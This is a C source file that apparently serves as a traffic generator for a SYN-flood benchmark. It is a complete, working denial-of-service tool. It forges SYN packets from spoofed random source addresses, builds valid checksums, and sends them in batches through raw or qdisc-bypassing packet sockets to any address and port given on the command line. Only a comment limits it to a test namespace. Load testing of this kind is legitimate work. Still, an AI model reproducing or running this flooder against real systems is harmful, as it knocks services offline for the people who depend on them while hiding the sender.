/*
 * A SYN flood for bench/synflood: TCP SYNs from random sources of a /16 to
 * one address and port, through a raw socket in batches (sendmmsg), for a
 * number of seconds, as fast as it can or at a rate. Run it only inside a
 * network namespace of the benchmark's: it sends from forged addresses.
 * With a device and the next hop's MAC, whole Ethernet frames go out
 * through a packet socket that bypasses the qdisc: past the raw socket's
 * routing and neighbour lookups per packet, about twice the rate.
 * usage: synflood DST PORT SRC16 SECONDS [PPS [DEV DSTMAC]]
 *        (SRC16: e.g. 10.99.0.0; PPS 0: as fast as it can)
 * Prints one JSON line: the packets sent and the rate achieved.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64

static uint64_t now_ns(void)
{
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

static uint16_t csum(const void *p, size_t n, uint32_t sum)
{
        const uint8_t *b = p;
        for (size_t i = 0; i + 1 < n; i += 2)
                sum += (uint32_t)(b[i] << 8 | b[i + 1]);
        if (n & 1)
                sum += (uint32_t)(b[n - 1] << 8);
        while (sum >> 16)
                sum = (sum & 0xffff) + (sum >> 16);
        return (uint16_t)~sum;
}

struct pkt {
        uint8_t align[2];        /* so the IP header after eth is 4-byte aligned */
        struct ether_header eth; /* sent only by a packet socket */
        struct iphdr ip;
        struct tcphdr tcp;
        uint8_t mss[4];
};

static void fill(struct pkt *p, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport,
                 uint32_t seq)
{
        memset(p, 0, sizeof(*p));
        p->ip.version = 4;
        p->ip.ihl = 5;
        p->ip.ttl = 64;
        p->ip.protocol = IPPROTO_TCP;
        p->ip.tot_len = htons(sizeof(*p) - offsetof(struct pkt, ip));
        p->ip.saddr = src;
        p->ip.daddr = dst;
        p->tcp.source = htons(sport);
        p->tcp.dest = htons(dport);
        p->tcp.seq = htonl(seq);
        p->tcp.doff = 6;
        p->tcp.syn = 1;
        p->tcp.window = htons(64240);
        p->mss[0] = 2;
        p->mss[1] = 4;
        p->mss[2] = 0x05;
        p->mss[3] = 0xb4;
        /* The pseudo-header, then the segment. */
        uint8_t ph[12];
        memcpy(ph, &src, 4);
        memcpy(ph + 4, &dst, 4);
        ph[8] = 0;
        ph[9] = IPPROTO_TCP;
        ph[10] = 0;
        ph[11] = sizeof(p->tcp) + sizeof(p->mss);
        uint16_t s0 = (uint16_t)~csum(ph, sizeof(ph), 0);
        p->tcp.check = htons(csum(&p->tcp, sizeof(p->tcp) + sizeof(p->mss), s0));
        p->ip.check = htons(csum(&p->ip, sizeof(p->ip), 0)); /* a raw socket's is the kernel's */
}

_Static_assert(offsetof(struct pkt, ip) == offsetof(struct pkt, eth) + 14, "no gap in the frame");

/* A packet socket on dev, past the qdisc; eth gets its MAC and the next hop's. */
static int packet_socket(const char *dev, const char *mac, struct ether_header *eth,
                         struct sockaddr_ll *to)
{
        unsigned m[6];
        if (sscanf(mac, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6) {
                fprintf(stderr, "synflood: bad MAC '%s'\n", mac);
                return -1;
        }
        int fd = socket(AF_PACKET, SOCK_RAW, 0), one = 1;
        struct ifreq ifr = {0};
        snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", dev);
        if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &ifr) < 0 ||
            setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)) < 0) {
                perror("synflood: packet socket");
                return -1;
        }
        for (int i = 0; i < 6; i++)
                eth->ether_dhost[i] = (uint8_t)m[i];
        memcpy(eth->ether_shost, ifr.ifr_hwaddr.sa_data, 6);
        eth->ether_type = htons(ETHERTYPE_IP);
        *to = (struct sockaddr_ll){
            .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(dev), .sll_halen = 6};
        memcpy(to->sll_addr, eth->ether_dhost, 6);
        return fd;
}

int main(int argc, char **argv)
{
        if (argc < 5) {
                fprintf(stderr, "usage: synflood DST PORT SRC16 SECONDS [PPS [DEV DSTMAC]]\n");
                return 2;
        }
        struct in_addr dst, base;
        if (inet_pton(AF_INET, argv[1], &dst) != 1 || inet_pton(AF_INET, argv[3], &base) != 1) {
                fprintf(stderr, "synflood: bad address\n");
                return 2;
        }
        uint16_t port = (uint16_t)atoi(argv[2]);
        double secs = atof(argv[4]);
        double pps = argc > 5 ? atof(argv[5]) : 0;
        struct ether_header eth = {0};
        struct sockaddr_ll ll = {0};
        int link = argc > 7;
        int fd = link ? packet_socket(argv[6], argv[7], &eth, &ll)
                      : socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
        if (fd < 0) {
                perror("synflood: socket");
                return 1;
        }
        static struct pkt pk[BATCH];
        struct iovec iov[BATCH];
        struct mmsghdr mm[BATCH];
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
        /* A packet socket sends the frame, a raw socket the IP packet in it. */
        size_t off = link ? offsetof(struct pkt, eth) : offsetof(struct pkt, ip);
        void *name = link ? (void *)&ll : (void *)&to;
        socklen_t namelen = link ? sizeof(ll) : sizeof(to);
        uint64_t x = now_ns() | 1, sent = 0, t0 = now_ns(), end = t0 + (uint64_t)(secs * 1e9);
        for (uint64_t t = t0; t < end; t = now_ns()) {
                for (int i = 0; i < BATCH; i++) {
                        x ^= x << 13;
                        x ^= x >> 7;
                        x ^= x << 17;
                        uint32_t src = base.s_addr | htonl((uint32_t)(x & 0xffff));
                        fill(&pk[i], src, dst.s_addr, (uint16_t)(1024 + ((x >> 16) % 60000)), port,
                             (uint32_t)(x >> 32));
                        pk[i].eth = eth;
                        iov[i] = (struct iovec){(uint8_t *)&pk[i] + off, sizeof(pk[i]) - off};
                        mm[i] = (struct mmsghdr){.msg_hdr = {.msg_name = name,
                                                             .msg_namelen = namelen,
                                                             .msg_iov = &iov[i],
                                                             .msg_iovlen = 1}};
                }
                int n = sendmmsg(fd, mm, BATCH, 0);
                if (n > 0)
                        sent += (uint64_t)n;
                if (pps > 0) {
                        uint64_t due = t0 + (uint64_t)((double)sent / pps * 1e9);
                        while (now_ns() < due)
                                ;
                }
        }
        double el = (double)(now_ns() - t0) / 1e9;
        printf("{\"sent\": %llu, \"seconds\": %.2f, \"pps\": %.0f}\n", (unsigned long long)sent, el,
               (double)sent / el);
        return 0;
}
